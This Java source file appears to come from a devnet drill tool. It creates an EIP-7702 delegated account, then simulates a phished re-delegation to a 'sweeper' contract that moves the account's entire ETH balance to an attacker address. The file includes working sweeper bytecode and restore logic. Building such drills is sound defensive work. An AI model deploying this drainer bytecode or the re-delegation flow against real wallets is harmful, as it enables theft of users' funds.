package org.firebreak.devnet;

import java.math.BigInteger;
import java.util.List;
import java.util.Locale;

import org.web3j.crypto.Credentials;
import org.web3j.protocol.core.methods.response.TransactionReceipt;
import org.web3j.utils.Convert;
import org.web3j.utils.Numeric;

/**
 * The devnet's EIP-7702 smart account, as MetaMask Smart Accounts make them: an EOA (dev key 11) funded with
 * {@link #FUNDS} and delegated by a type-4 transaction to the devnet's EIP7702StatelessDeleGator, served by the
 * chain profile ({@code accounts.served}). The drain-delegated-account drill re-delegates it to a {@link #SWEEPER}
 * that sends the account's whole balance to the attacker (dev account 9) as soon as the account is called; clear
 * re-delegates it to the DeleGator (the swept ETH stays gone).
 */
final class DelegatedAccount {

    static final BigInteger FUNDS = Convert.toWei("5", Convert.Unit.ETHER).toBigIntegerExact();

    /**
     * A sweeper's runtime, 33 bytes: CALL(gas, attacker, SELFBALANCE, 0, 0, 0, 0) and STOP, so whatever the account
     * holds leaves on any call. No npm package ships one; written out as {@link GasBurner} is:
     *
     * <pre>
     * 00 PUSH1 0 (retSize)  02 PUSH1 0 (retOffset)  04 PUSH1 0 (argsSize)  06 PUSH1 0 (argsOffset)
     * 08 SELFBALANCE        09 PUSH20 attacker      1e GAS                 1f CALL   20 STOP
     * </pre>
     *
     * The creation code copies it to memory and returns it: PUSH1 0x21 DUP1 PUSH1 0x0b PUSH1 0x00 CODECOPY PUSH1 0x00
     * RETURN.
     */
    static String sweeper(String attacker) {
        return "0x602180600b6000396000f3" + "6000600060006000" + "47" + "73" + Numeric.cleanHexPrefix(attacker)
                .toLowerCase(Locale.ROOT) + "5a" + "f1" + "00";
    }

    static final String SWEEPER = "sweeper";

    private final DevnetChain chain;
    private final String deleGator;

    DelegatedAccount(DevnetChain chain, String deleGator) {
        this.chain = chain;
        this.deleGator = deleGator;
    }

    static Credentials key() {
        return DevAccounts.account(11);
    }

    /** Funds the account and delegates it to the DeleGator, sponsored by the deployer. */
    String create() {
        chain.send(DevAccounts.deployer(), key().getAddress(), "0x", FUNDS);
        chain.authorize(DevAccounts.deployer(), key(), deleGator, DevAccounts.deployer().getAddress());
        return key().getAddress().toLowerCase(Locale.ROOT);
    }

    /** The delegate the account's code names now, or "none". */
    String delegate() {
        String code = chain.code(key().getAddress()).toLowerCase(Locale.ROOT);
        return code.startsWith("0xef0100") && code.length() == 48 ? "0x" + code.substring(8) : "none";
    }

    FaultReport drain() {
        String before = delegate();
        if (!before.equalsIgnoreCase(deleGator)) {
            return new FaultReport(Fault.DRAIN_DELEGATED_ACCOUNT.id(), false, "account " + key().getAddress()
                    + " already delegates to " + before + ", not the devnet's DeleGator", null);
        }
        String attacker = DevAccounts.outsider().getAddress();
        String sweeper = chain.deploy(DevAccounts.deployer(), sweeper(attacker));
        BigInteger held = chain.balance(key().getAddress());
        // The victim signed the authorization (a phished signature); the attacker relays it and calls the account.
        TransactionReceipt receipt = chain.authorize(DevAccounts.outsider(), key(), sweeper, key().getAddress());
        return new FaultReport(Fault.DRAIN_DELEGATED_ACCOUNT.id(), true, "account " + key().getAddress().toLowerCase(Locale.ROOT)
                + " re-delegated from DeleGator " + deleGator + " to " + SWEEPER + " " + sweeper + " at block "
                + receipt.getBlockNumber() + "; " + Convert.fromWei(new java.math.BigDecimal(held), Convert.Unit.ETHER)
                .stripTrailingZeros().toPlainString() + " ETH swept to " + attacker.toLowerCase(Locale.ROOT)
                + " (balance now " + chain.balance(key().getAddress()) + " wei)", receipt.getTransactionHash());
    }

    void restore(List<FaultReport> done) {
        String now = delegate();
        if (!now.equalsIgnoreCase(deleGator)) {
            TransactionReceipt receipt = chain.authorize(DevAccounts.deployer(), key(), deleGator,
                    DevAccounts.deployer().getAddress());
            done.add(new FaultReport(Fault.DRAIN_DELEGATED_ACCOUNT.id(), true, "account " + key().getAddress()
                    + " delegates to the DeleGator " + deleGator + " again (was " + now + "); the swept ETH stays gone",
                    receipt.getTransactionHash()));
        }
    }
}
